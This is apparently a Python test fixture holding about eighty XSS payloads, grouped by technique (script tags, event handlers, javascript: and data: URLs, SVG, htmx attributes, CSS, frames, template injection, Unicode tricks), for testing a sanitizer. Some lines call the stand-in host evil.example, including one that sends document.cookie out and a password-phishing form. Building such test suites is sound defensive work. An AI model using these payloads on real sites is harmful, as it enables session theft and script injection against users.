"""Hostile strings for the XSS tests, grouped by trick. Every payload that could run script calls ``alert`` (the
browser test records any dialog) or reaches for http://evil.example/ (it records any request to another host) or
for /xss-probe/ on the app itself (htmx attributes that would fire a same-origin request).

A Python list rather than a text file: several payloads need newlines, NUL, tabs or invisible Unicode.
"""

from __future__ import annotations

EVIL = "http://evil.example"
PROBE = "/xss-probe"

SCRIPT_TAGS = [
    "<script>alert(1)</script>",
    "<ScRiPt>alert(2)</sCrIpT>",
    f'<script src="{EVIL}/x.js"></script>',
    f"<script>fetch('{EVIL}/steal?c='+document.cookie)</script>",
    "<scr<script>ipt>alert(3)</scr</script>ipt>",
    "%3Cscript%3Ealert(4)%3C%2Fscript%3E",
    "&lt;script&gt;alert(5)&lt;/script&gt;",
    r"\u003cscript\u003ealert(6)\u003c/script\u003e",
    "<script/x>alert(7)</script>",
    "</textarea><script>alert(8)</script>",
    "</title><script>alert(9)</script>",
    f"<script>import('{EVIL}/m.js')</script>",
    "<!--<script>--><script>alert(10)</script>",
]

EVENT_HANDLERS = [
    "<img src=x onerror=alert(11)>",
    f'<img src="{EVIL}/i.png" onerror="alert(12)">',
    "<IMG SRC=x oNeRrOr=alert(13)>",
    "<body onload=alert(14)>",
    "<input autofocus onfocus=alert(15)>",
    '<div onmouseover="alert(16)" style="position:fixed;inset:0">hover me</div>',
    "<details open ontoggle=alert(17)>x</details>",
    "<video><source onerror=alert(18)></video>",
    "<audio src=x onerror=alert(19)>",
    "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;&#40;20&#41;>",
    "<select autofocus onfocus=alert(21)></select>",
    "<textarea autofocus onfocus=alert(22)></textarea>",
]

URLS = [
    '<a href="javascript:alert(23)">click</a>',
    '<a href="JaVaScRiPt:alert(24)">click</a>',
    '<a href="&#106;avascript:alert(25)">click</a>',
    '<a href="java\tscript:alert(26)">click</a>',
    "[click](javascript:alert(27))",
    "[click](JAVASCRIPT:alert(28))",
    "[click](javascript&#58;alert(29))",
    "[click][ref]\n\n[ref]: javascript:alert(30)",
    "<javascript:alert(31)>",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgzMik8L3NjcmlwdD4=)",
    "![x](javascript:alert(33))",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMzQpPg==)",
    '<a href="data:text/html,<script>alert(35)</script>">click</a>',
    "[click](vbscript:msgbox(36))",
    '[click](  javascript:alert(37)  "title")',
    "[click](<javascript:alert(38)>)",
    f'[click]({EVIL}/" onmouseover="alert(39))',
    '[click](https://ok.example "t" onmouseover="alert(40)")',
    "[click](java\x00script:alert(41))",
    "javascript:alert(42)",
    f"<{EVIL}/autolink>",
    f"![pixel]({EVIL}/pixel.png)",
    f"![pixel][img]\n\n[img]: {EVIL}/ref-pixel.png",
    "![pixel](//evil.example/protocol-relative.png)",
    "![pixel](&#47;&#47;evil.example/entities.png)",
]

SVG = [
    "<svg onload=alert(43)>",
    "<svg><script>alert(44)</script></svg>",
    '<svg><a xlink:href="javascript:alert(45)"><text x="20" y="20">click</text></a></svg>',
    "<svg><animate onbegin=alert(46) attributeName=x dur=1s>",
    "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'>"
    "<image href='1' onerror='alert(47)'/></svg>#x\"/></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(48)>",
]

RAW_HTML_IN_MARKDOWN = [
    "<div>\n<img src=x onerror=alert(49)>\n</div>",
    "`<img src=x onerror=alert(50)>`",
    '<noscript><p title="</noscript><img src=x onerror=alert(51)>">',
    "**bold** <b onmouseover=alert(52)>b</b> _em_",
    "| a | b |\n| --- | --- |\n| <img src=x onerror=alert(53)> | [x](javascript:alert(54)) |",
]

HTMX = [
    f'<div hx-get="{EVIL}/h" hx-trigger="load">x</div>',
    f'<button hx-post="{PROBE}/post" hx-trigger="load">x</button>',
    '<div hx-on:click="alert(55)">click</div>',
    '<div hx-on::load="alert(56)">x</div>',
    '<div hx-on:htmx:load="alert(57)">x</div>',
    f'<div data-hx-get="{PROBE}/data" data-hx-trigger="load">x</div>',
    f'<div hx-trigger="load" hx-get="{PROBE}/get" hx-swap="outerHTML">x</div>',
    f'<div hx-vals=\'js:{{a:alert(58)}}\' hx-post="{PROBE}/vals" hx-trigger="load">x</div>',
    f'<a href="#" hx-get="{PROBE}/a" hx-trigger="mouseover, load" hx-target="body">x</a>',
    f'<form hx-post="{PROBE}/form" hx-trigger="load"><input name=a></form>',
    '<div hx-disable="false" hx-on:htmx:before-request="alert(59)">x</div>',
    '<meta name="htmx-config" content=\'{"allowEval": true, "selfRequestsOnly": false}\'>',
]

CSS = [
    '<div style="background:url(javascript:alert(60))">x</div>',
    '<div style="width:expression(alert(61))">x</div>',
    f"<style>@import '{EVIL}/x.css';</style>",
    f"<style>body{{background:url({EVIL}/bg.png)}}</style>",
    f"<link rel=stylesheet href={EVIL}/x.css>",
]

FRAMES_AND_FRIENDS = [
    '<iframe src="javascript:alert(62)"></iframe>',
    '<iframe srcdoc="<script>alert(63)</script>"></iframe>',
    f'<object data="{EVIL}/x.swf"></object>',
    '<embed src="javascript:alert(64)">',
    f'<base href="{EVIL}/">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(65)">',
    f'<meta http-equiv="refresh" content="0;url={EVIL}/">',
    f'<form action="{EVIL}/phish"><input name=password><button>go</button></form>',
    '<button formaction="javascript:alert(66)">x</button>',
    "<isindex action=javascript:alert(67) type=image>",
]

TEMPLATE_INJECTION = [
    "{{7*7}}",
    "{{ config }}{{ request }}",
    "{% for x in range(3) %}{{ x }}{% endfor %}",
    "${7*7} #{7*7}",
    "{{constructor.constructor('alert(68)')()}}",
]

ATTRIBUTE_BREAKOUTS = [
    '"><img src=x onerror=alert(69)>',
    "'><img src=x onerror=alert(70)>",
    '" autofocus onfocus="alert(71)',
    "' autofocus onfocus='alert(72)",
    f'" hx-get="{PROBE}/attr" hx-trigger="load',
    "</script><script>alert(73)</script>",
    "';alert(74);//",
    '";alert(75);//',
    "`-alert(76)-`",
    f'"}}\' hx-get="{PROBE}/json" hx-trigger="load" x=\'',
]

UNICODE_AND_NUL = [
    "<scr\x00ipt>alert(77)</scr\x00ipt>",
    "<img src=x\x00 onerror=alert(78)>",
    "\uff1cscript\uff1ealert(79)\uff1c/script\uff1e",
    "\u202e<img src=x onerror=alert(80)>",
    r"<img src=x onerror=\u0061lert(81)>",
    '<a href="jav&#x09;ascript:alert(82)">click</a>',
    "\ufeff<script>alert(83)</script>",
    "<img src=x onerror=alert(84)//\u2028>",
    "<img src=x onerror=\u00e0lert(85)>",
]

PAYLOADS: list[str] = [
    *SCRIPT_TAGS,
    *EVENT_HANDLERS,
    *URLS,
    *SVG,
    *RAW_HTML_IN_MARKDOWN,
    *HTMX,
    *CSS,
    *FRAMES_AND_FRIENDS,
    *TEMPLATE_INJECTION,
    *ATTRIBUTE_BREAKOUTS,
    *UNICODE_AND_NUL,
]
